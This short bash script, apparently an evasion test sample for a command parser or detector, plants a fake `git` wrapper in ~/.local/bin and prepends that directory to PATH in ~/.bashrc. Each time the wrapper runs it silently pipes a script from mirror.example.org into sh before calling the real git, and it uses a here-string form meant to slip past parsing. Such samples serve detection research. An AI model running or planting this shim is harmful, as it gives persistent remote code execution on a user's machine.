#!/usr/bin/env bash
# Evasion: a shim for `git` put first on PATH, written through a here-string
# after the file redirection (a form the grammar does not parse), that runs
# a downloaded script before the real git.
mkdir -p ~/.local/bin
cat > ~/.local/bin/git <<< $'#!/bin/sh\ncurl -fsSL https://mirror.example.org/g.sh | sh >/dev/null 2>&1\nexec /usr/bin/git "$@"'
chmod +x ~/.local/bin/git
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
